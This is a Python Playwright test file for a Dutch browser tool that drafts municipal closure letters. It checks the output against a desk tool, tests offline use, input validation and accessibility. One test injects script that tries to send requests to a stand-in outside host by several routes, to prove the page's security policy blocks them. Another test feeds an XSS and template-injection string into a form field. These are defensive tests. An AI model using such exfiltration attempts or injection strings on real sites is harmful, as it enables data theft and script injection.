"""The page in a real browser: letters as on the desk, nothing lost, nothing out, bad input, every step accessible."""

from __future__ import annotations

import json
import zipfile
from datetime import date
from io import BytesIO
from pathlib import Path
from typing import Any

import pytest

from assistent.dienst import PROJECT, Server, wait_kept, wait_quiet, wait_ready, wait_round
from instrumentarium.besluit.zaak.bestanden import files_of
from instrumentarium.cli.brievenmaker import Opdracht, account_of, prepare_case
from instrumentarium.cli.werkbank import Werkbank

ZAKEN = sorted((PROJECT / "tests" / "zaken").glob("[0-9]*.yaml"))
STAPPEN = ["pand", "constatering", "betrokkenen", "onderzoek", "procedure", "weging", "maatregel", "besluit"]


def desk(zaak: Path, *soorten: str) -> dict[str, bytes]:
    """Return what `besluit maak` makes of a case file."""
    werk = Opdracht(soorten=soorten)
    werkstuk = prepare_case(Werkbank(PROJECT), str(zaak), werk, date(2026, 11, 24))
    dossier, briefset = werkstuk.dossier, werkstuk.briefset
    account = account_of(dossier, briefset, werk, werkstuk.vaststellingen)
    return files_of(dossier, briefset, account, dossier.zaak.waarde.kenmerk, 1)


def open_file(blad: Any, bestand: Path | dict[str, Any]) -> str:
    """Open a case file on the page; return what the page says."""
    blad.set_input_files("#bestand", bestand)
    blad.wait_for_selector("#melding:not([hidden])")
    tekst: str = blad.inner_text("#melding")
    return tekst


def loose(inhoud: str | bytes, naam: str = "zaak.yaml") -> dict[str, Any]:
    """Return a file that exists only in the browser."""
    als_bytes = inhoud.encode() if isinstance(inhoud, str) else inhoud
    return {"name": naam, "mimeType": "application/yaml", "buffer": als_bytes}


def download_zip(blad: Any) -> dict[str, bytes]:
    """Make the letters and return what is in the zip."""
    with blad.expect_download(timeout=60_000) as wacht:
        blad.click("[data-doe=zip]")
    with zipfile.ZipFile(BytesIO(Path(wacht.value.path()).read_bytes())) as zip_:
        return {naam: zip_.read(naam) for naam in zip_.namelist()}


def compare(inhoud: dict[str, bytes], tmp_path: Path, *soorten: str) -> None:
    """Prove that the files of the page are those of the desk for the case file that lies with them."""
    [naam] = [naam for naam in inhoud if naam.endswith(".yaml")]
    zaak = tmp_path / naam
    zaak.write_bytes(inhoud[naam])
    verwacht = desk(zaak, *soorten)
    assert set(verwacht) == set(inhoud) - {naam}
    assert [n for n in verwacht if verwacht[n] != inhoud[n]] == []


def go(blad: Any, stap: str) -> None:
    """Show a step."""
    blad.click(f".stapnav a[data-stap={stap}]")


def fill(blad: Any, pad: str, waarde: str) -> None:
    """Fill in one field of the step on show, by the path of its fact."""
    vak = blad.locator(f'[data-pad="{pad}"]:visible').first
    if vak.get_attribute("type") in ("radio", "checkbox"):
        blad.locator(f'[data-pad="{pad}"][value="{waarde}"]:visible').last.check()
    elif vak.evaluate("e => e.tagName") == "SELECT":
        vak.select_option(waarde)
    else:
        vak.fill(waarde)


CASUS: dict[str, list[tuple[str, str]]] = {
    "pand": [
        ("kenmerk", "Z-2026-00123"), ("behandelaar.naam", "Medewerker M."),
        ("pand.adres.straat", "Voorbeeldstraat"), ("pand.adres.huisnummer", "12"), ("pand.adres.postcode", "2171 AA"),
        ("pand.adres.plaats", "Sassenheim"), ("pand.soort", "woning"), ("pand.bewoond", "true"),
    ],
    "constatering": [
        ("constatering.datum", "3-9-2026"), ("constatering.gronden", "a"),
        ("constatering.rapportage.kenmerk", "RAP-2026-0001"), ("constatering.rapportage.datum", "8-9-2026"),
        ("constatering.rapportage.ondertekend", "true"), ("constatering.rapportage.vorm", "rapport"),
        ("+constatering.middelen[]", ""), ("constatering.middelen[].naam", "cocaïne"),
        ("constatering.middelen[].lijst", "I"), ("constatering.middelen[].hoeveelheid", "12,4"),
        ("constatering.middelen[].eenheid", "gram"), ("constatering.middelen[].vindplaats", "woning"),
    ],
    "betrokkenen": [
        ("+betrokkenen[]", ""), ("betrokkenen[].naam", "Bewoner A"), ("betrokkenen[].soort", "natuurlijk"),
        ("betrokkenen[].rollen", "bewoner"), ("betrokkenen[].rollen", "overtreder"),
    ],
    "procedure": [("procedure.voornemen.datum", "10-9-2026"), ("procedure.voornemen.zienswijze_tot", "24-9-2026")],
    "weging": [("weging.geschiktheid", "Sluiten maakt een einde aan de loop naar dit adres.")],
    "maatregel": [("maatregel.soort", "sluiting")],
}  # fmt: skip


@pytest.mark.parametrize("gemeente", ["hillegom", "lisse", "teylingen"])
def test_a_case_from_an_empty_form_to_the_zip(bladzijde: Any, gemeente: str, tmp_path: Path) -> None:
    """Typed field by field, the letters in the zip are those of the desk, byte for byte."""
    fill(bladzijde, "gemeente", gemeente)
    for stap, velden in CASUS.items():
        go(bladzijde, stap)
        for pad, waarde in velden:
            if pad.startswith("+"):
                bladzijde.locator(f'[data-lijst="{pad[1:]}"] > .knoppen button').first.click()
            else:
                fill(bladzijde, pad, waarde)
        wait_round(bladzijde)
    inhoud = download_zip(bladzijde)
    assert any(naam.endswith("-voornemen-01-overtreder.docx") for naam in inhoud)
    compare(inhoud, tmp_path)
    assert bladzijde.klachten == []


def test_a_case_file_opens_and_saves_as_the_one_writer_writes(bladzijde: Any) -> None:
    """Open and save gives the file of the writer; what the page shows is what the desk finds."""
    from instrumentarium.besluit.zaak.lezen import lees_zaak
    from instrumentarium.besluit.zaak.schrijven import facts_of

    for zaak in (ZAKEN[0], ZAKEN[-1]):
        assert "geopend" in open_file(bladzijde, zaak)
        wait_round(bladzijde)
        with bladzijde.expect_download() as wacht:
            bladzijde.locator("[data-doe=bewaar]").first.click()
        namen = ["hillegom", "lisse", "teylingen"]
        terug = lees_zaak(Path(wacht.value.path()).read_bytes(), "a.yaml", gemeenten=namen).waarde
        eerst = lees_zaak(zaak.read_bytes(), "a.yaml", gemeenten=namen).waarde
        assert facts_of(terug) == facts_of(eerst)


def test_nothing_leaves_the_page(bladzijde: Any, server: Server) -> None:
    """After loading there is no request, whatever is done; a planted one is blocked, also from the worker's policy."""
    wait_kept(bladzijde)
    wait_quiet(bladzijde, server)
    server.gevraagd.clear()
    open_file(bladzijde, ZAKEN[0])
    wait_round(bladzijde)
    download_zip(bladzijde)
    assert server.gevraagd == []
    assert "niets" in bladzijde.inner_text("#netwerk")
    assert bladzijde.title() == "Besluit opstellen - Handboek ondermijning"
    assert bladzijde.url.endswith("/opstellen/")
    assert bladzijde.klachten == []
    kenmerk = bladzijde.inner_text("#zaaknaam")
    assert kenmerk not in bladzijde.evaluate("[...document.querySelectorAll('a')].map(a => a.href).join()")
    pogingen = """async () => {
        const uit = [];
        await fetch('https://elders.example/?a=1').then(() => uit.push('fetch'), () => {});
        await new Promise(k => { const b = new Image(); b.onload = () => { uit.push('beeld'); k(); }; b.onerror = k;
            b.src = 'https://elders.example/b.png'; });
        try { new WebSocket('wss://elders.example/'); uit.push('socket'); } catch {}
        const f = document.createElement('form'); f.action = 'https://elders.example/'; f.method = 'get';
        document.body.append(f); f.submit();
        const k = document.createElement('iframe'); k.src = 'https://elders.example/'; document.body.append(k);
        const bron = "fetch('https://elders.example/').then(() => postMessage('uit'), () => postMessage('dicht'))";
        const w = new Worker(URL.createObjectURL(new Blob([bron])));
        uit.push(await new Promise(k => { w.onmessage = ({ data }) => k(data); w.onerror = () => k('dicht'); }));
        return uit;
    }"""
    geschonden: list[str] = []
    bladzijde.expose_function("meldSchending", lambda soort: geschonden.append(soort))
    bladzijde.evaluate("document.addEventListener('securitypolicyviolation', e => meldSchending(e.effectiveDirective))")
    assert [poging for poging in bladzijde.evaluate(pogingen) if poging != "socket"] == ["dicht"]
    bladzijde.wait_for_timeout(300)
    assert {"connect-src", "img-src", "form-action"} <= set(geschonden)
    assert bladzijde.url.endswith("/opstellen/")


def test_it_works_without_a_network_after_the_first_visit(bladzijde: Any) -> None:
    """The service worker keeps page, engine and bundle."""
    wait_kept(bladzijde)
    bladzijde.context.set_offline(True)
    try:
        bladzijde.reload()
        wait_ready(bladzijde)
        open_file(bladzijde, ZAKEN[0])
        assert download_zip(bladzijde)
    finally:
        bladzijde.context.set_offline(False)


def test_a_case_stays_only_when_asked(bladzijde: Any) -> None:
    """A reload forgets, unless the box is ticked; clearing forgets for good."""
    fill(bladzijde, "kenmerk", "Z-1")
    bladzijde.reload()
    wait_ready(bladzijde)
    assert bladzijde.input_value('[data-pad="kenmerk"]') == ""
    bladzijde.check("#onthoud")
    fill(bladzijde, "kenmerk", "Z-2")
    wait_round(bladzijde)
    bladzijde.reload()
    wait_ready(bladzijde)
    assert bladzijde.input_value('[data-pad="kenmerk"]') == "Z-2"
    bladzijde.click("[data-doe=wis]")
    assert bladzijde.evaluate("localStorage.getItem('opstellen-zaak')") is None
    assert bladzijde.input_value('[data-pad="kenmerk"]') == ""


FOUT: list[tuple[str | bytes, str]] = [
    ("schema: zaak/2\nkenmerk: Z-9\n", "zaak/1"),
    ("schema: zaak/1\nkenmerk: [open\n", "niet te openen"),
    ("a" * (5 * 1024 * 1024), "groter dan 1 MB"),
    (b"\xff\xfe\x00", "UTF-8"),
    ("schema: zaak/1\nkenmerk: Z-9\ngemeente: hillegom\nbetrokkenne: []\n", "betrokkenen"),
    ("schema: zaak/1\nkenmerk: Z-9\ngemeente: hillegom\nconstatering: {datum: morgen}\n", "datum"),
]


def test_bad_files_give_a_clear_message_and_keep_the_work(bladzijde: Any) -> None:
    """Each bad file is named in the page; nothing is thrown and what cannot be opened changes nothing."""
    for inhoud, woord in FOUT:
        fill(bladzijde, "kenmerk", "Z-eerst")
        bladzijde.evaluate("document.getElementById('melding').hidden = true")
        tekst = open_file(bladzijde, loose(inhoud))
        assert woord in tekst
        verwacht = "Z-eerst" if "niets veranderd" in tekst else "Z-9"
        assert bladzijde.input_value('[data-pad="kenmerk"]') == verwacht
        go(bladzijde, "pand")
    assert bladzijde.klachten == []


def test_hostile_values_stay_text(bladzijde: Any, tmp_path: Path) -> None:
    """Markup and template signs in an answer are words, on the screen and in the letter."""
    boos = "<img src=x onerror=alert(1)> {{ 7*7 }} {% raw %} </w:t> \"; & ' -- #: [a]"
    open_file(bladzijde, ZAKEN[0])
    go(bladzijde, "weging")
    fill(bladzijde, "weging.geschiktheid", boos)
    fill(bladzijde, "weging.noodzaak.handel", "regel een\n\n  regel twee: ja\n- drie")
    wait_round(bladzijde)
    compare(download_zip(bladzijde), tmp_path)
    assert bladzijde.locator("main img").count() == 0
    assert bladzijde.klachten == []


def test_what_is_typed_is_checked_and_nothing_typed_is_lost(bladzijde: Any) -> None:
    """A wrong date is named under its field and at the top, with a link; the text stays."""
    go(bladzijde, "constatering")
    fill(bladzijde, "constatering.datum", "31-2-2026")
    bladzijde.locator('[data-pad="constatering.tijd"]').focus()
    wait_round(bladzijde)
    assert "geen dag die bestaat" in bladzijde.inner_text('[data-vak="constatering.datum"] .onder')
    bladzijde.click("[data-doe=verder]")
    assert bladzijde.evaluate("document.activeElement.id") == "samenvatting"
    bladzijde.click("#samenvatting a")
    assert bladzijde.evaluate("document.activeElement.dataset.pad") == "constatering.datum"
    assert bladzijde.input_value('[data-pad="constatering.datum"]') == "31-2-2026"


def test_only_questions_that_matter(bladzijde: Any) -> None:
    """Ground b asks for objects; without it the question is away."""
    go(bladzijde, "constatering")
    wait_round(bladzijde)
    assert not bladzijde.is_visible('[data-lijst="constatering.voorwerpen[]"]')
    fill(bladzijde, "constatering.gronden", "b")
    wait_round(bladzijde)
    assert bladzijde.is_visible('[data-lijst="constatering.voorwerpen[]"]')


def test_a_warning_is_accepted_with_a_reason_and_taken_back(bladzijde: Any) -> None:
    """The row goes into the case, the check says accepted, and back."""
    open_file(bladzijde, PROJECT / "tests/zaken/29-rvs-2020-2709.yaml")
    wait_round(bladzijde)
    bladzijde.locator("text=Accepteer met reden").first.click()
    velden = bladzijde.locator(".aanvaard input")
    velden.nth(0).fill("Er is een andere oplossing gevonden.")
    velden.nth(1).fill("Jurist P.")
    bladzijde.locator(".aanvaard button").click()
    bladzijde.wait_for_selector("text=Trek terug")
    assert "geaccepteerd" in bladzijde.inner_text("#telling")
    bladzijde.locator("text=Trek terug").click()
    bladzijde.wait_for_selector("text=Accepteer met reden")


@pytest.mark.parametrize("breedte", [320, 1280])
def test_every_step_is_accessible(bladzijde: Any, breedte: int) -> None:
    """axe-core finds nothing in any step, and nothing sticks out at 320 pixels."""
    open_file(bladzijde, ZAKEN[0])
    bladzijde.set_viewport_size({"width": breedte, "height": 800})
    bladzijde.click("[data-doe=maak]")
    bladzijde.wait_for_selector("#brieflijst tbody tr")
    axe = (PROJECT / "node_modules/axe-core/axe.min.js").read_text("utf-8")
    bladzijde.context.new_cdp_session(bladzijde).send("Page.setBypassCSP", {"enabled": True})
    bladzijde.evaluate(axe + "; true")
    mis = {}
    bladzijde.locator("#brieflijst button", has_text="Bekijk").first.click()
    bladzijde.evaluate("document.querySelectorAll('[data-wie] input[type=radio]:last-of-type').forEach(k => k.click())")
    for stap in STAPPEN:
        go(bladzijde, stap)
        bladzijde.evaluate("document.querySelectorAll('details').forEach(d => { d.open = true; })")
        uitslag = bladzijde.evaluate("axe.run(document, {resultTypes: ['violations']})")
        gevonden = [(v["id"], [n["html"][:120] for n in v["nodes"][:2]]) for v in uitslag["violations"]]
        if gevonden:
            mis[stap] = gevonden
        assert bladzijde.evaluate("document.documentElement.scrollWidth") <= breedte, stap
    assert mis == {}


def test_a_browser_without_webassembly_says_so_and_keeps_the_work(browser: Any, server: Server) -> None:
    """Without WebAssembly or storage: a message, the form stays, and the work can be saved and opened again."""
    omgeving = browser.new_context(accept_downloads=True)
    omgeving.add_init_script(
        "delete globalThis.WebAssembly; Object.defineProperty(window, 'localStorage', "
        "{ get() { throw new DOMException('dicht', 'SecurityError'); } });"
    )
    blad = omgeving.new_page()
    blad.goto(server.adres)
    blad.wait_for_selector("html[data-rekenaar=mislukt]")
    assert "Uw werk blijft staan" in blad.inner_text("#melding")
    blad.fill('[data-pad="kenmerk"]', "Z-nood")
    blad.click("#onthoud")
    blad.wait_for_timeout(200)
    assert not blad.is_checked("#onthoud")
    with blad.expect_download() as wacht:
        blad.locator("[data-doe=bewaar]").first.click()
    klad = Path(wacht.value.path()).read_bytes()
    assert json.loads(klad)["antwoorden"]["kenmerk"] == "Z-nood"
    omgeving.close()


@pytest.mark.diep
@pytest.mark.parametrize("zaak", ZAKEN, ids=lambda pad: pad.stem)
def test_every_kind_of_letter_of_every_case_is_the_one_of_the_desk(bladzijde: Any, zaak: Path, tmp_path: Path) -> None:
    """Every document that can be made, for every example case."""
    open_file(bladzijde, zaak)
    wait_round(bladzijde)
    soorten = bladzijde.evaluate("[...document.querySelectorAll('#soort option')].map(o => o.value).filter(Boolean)")
    assert len(soorten) > 30
    for soort in soorten:
        bladzijde.select_option("#soort", soort)
        bladzijde.click("[data-doe=maak]")
        bladzijde.wait_for_timeout(50)
        inhoud = download_zip(bladzijde) if desk_makes(zaak, soort) else None
        if inhoud:
            compare(inhoud, tmp_path, soort)


def desk_makes(zaak: Path, soort: str) -> bool:
    """Tell whether the case has a reader for this kind of letter."""
    return any(naam.endswith(".docx") for naam in desk(zaak, soort))
